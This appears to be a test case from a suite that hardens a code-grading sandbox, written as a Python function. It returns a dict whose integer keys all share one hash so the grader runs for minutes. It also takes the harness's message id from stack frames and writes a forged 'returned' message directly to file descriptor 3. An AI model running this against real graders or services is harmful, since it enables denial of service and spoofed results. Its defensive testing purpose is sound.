"""Return a dict whose keys all have the same hash: making it takes time with the square of its size.

Shows: a grader that works for minutes.
Stopped by: the number of keys that are no text is limited.
Slow: yes
"""

import json
import os
import struct
import sys

MODULUS = 2**61 - 1


def number():
    here = sys._getframe()
    while here is not None:
        message = here.f_locals.get("message")
        if isinstance(message, dict) and "id" in message:
            return message["id"]
        here = here.f_back
    return ""


def attack(*args, **kwargs):
    value = {"d": [[key * MODULUS, 0] for key in range(1, 36_000)]}
    message = {"kind": "returned", "value": value, "effects": {}, "id": number(), "sizes": []}
    text = json.dumps(message, separators=(",", ":")).encode()
    data = memoryview(struct.pack("!IQ", len(text), 0) + text)
    while data:
        data = data[os.write(3, data) :]
